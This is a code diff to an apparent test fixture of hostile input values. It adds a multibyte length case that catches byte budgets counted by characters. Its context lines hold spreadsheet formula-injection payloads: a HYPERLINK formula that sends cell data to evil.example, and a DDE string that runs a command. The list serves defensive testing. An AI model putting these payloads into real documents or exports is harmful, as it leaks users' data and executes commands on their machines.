@@ -49,6 +49,8 @@ export const HOSTILE: HostileValue[] = [
   // Length
   { id: "long-10k", kind: "length", value: "A".repeat(10_000) },
   { id: "long-100k", kind: "length", value: "<b>".repeat(33_334) },
+  // Within the 1000-character limits, but three bytes a character: 3 kB where a budget counted 1 kB.
+  { id: "long-multibyte", kind: "length", value: "\u5C71".repeat(1000) },
   // Spreadsheet formulas
   { id: "formula-equals", kind: "formula", value: '=HYPERLINK("http://evil.example/?x="&A1,"Click")' },
   { id: "formula-plus", kind: "formula", value: "+1+cmd|' /C calc'!A0" },
